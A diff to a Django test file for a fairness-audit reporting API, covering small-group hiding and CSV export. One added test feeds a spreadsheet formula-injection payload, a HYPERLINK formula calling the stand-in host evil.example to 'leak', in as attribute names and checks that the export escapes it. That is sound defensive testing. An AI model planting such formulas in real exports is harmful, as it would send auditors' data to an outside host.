@@ -38,7 +38,7 @@ def staff_client(django_user_model) -> APIClient:
     return client
 
 
-def test_a_public_systems_report_is_readable_anonymously_with_small_groups_suppressed(loans):
+def test_a_public_systems_report_is_readable_anonymously_without_small_cells(loans):
     loans.is_public = True
     loans.save()
     answer = APIClient().get(URL, {"system": loans.slug, "attributes": "sex,race"})
@@ -46,7 +46,7 @@ def test_a_public_systems_report_is_readable_anonymously_with_small_groups_suppr
     report = answer.json()
     groups = {group["key"]: group for group in report["groups"]}
     assert report["public"] is True
-    assert groups["female|asian"]["suppressed"] and groups["female|asian"]["count"] is None
+    assert "female|asian" not in groups and report["total"] == 70
     assert groups["male|white"]["count"] == 40
     assert report["summary"]["demographic_parity_difference"] == pytest.approx(0.75 - 0.4)
 
@@ -92,6 +92,21 @@ def test_csv_has_a_line_per_group_and_marginal(loans, staff_client):
     women = next(line for line in lines if line["group"] == "female")
     assert women["count"] == "33" and float(women["selection_rate"]) == pytest.approx(15 / 33)
     assert float(women["impact_ratio"]) == pytest.approx((15 / 33) / 0.75)
+
+
+def test_csv_quotes_attribute_names_that_a_spreadsheet_would_run(ai_system, staff_client):
+    """An AI system chooses its attribute names: `=HYPERLINK(...)` must reach the auditor's
+    spreadsheet as text, in the header as in the values."""
+    formula = '=HYPERLINK("https://evil.example/?leak")'
+    put(ai_system, version(ai_system), {formula: "@SUM(1)", "sex": "female"}, "approve")
+    answer = staff_client.get(
+        URL, {"system": ai_system.slug, "attributes": f"sex,{formula}", "format": "csv"}
+    )
+    assert answer.status_code == 200
+    header, *lines = list(csv.reader(io.StringIO(answer.content.decode())))
+    assert header[2:4] == ["sex", "'" + formula]
+    assert lines[0][:4] == ["intersection", "female|@SUM(1)", "female", "'@SUM(1)"]
+    assert not any(cell[:1] in ("=", "+", "-", "@") for line in (header, *lines) for cell in line)
 
 
 @pytest.mark.parametrize(
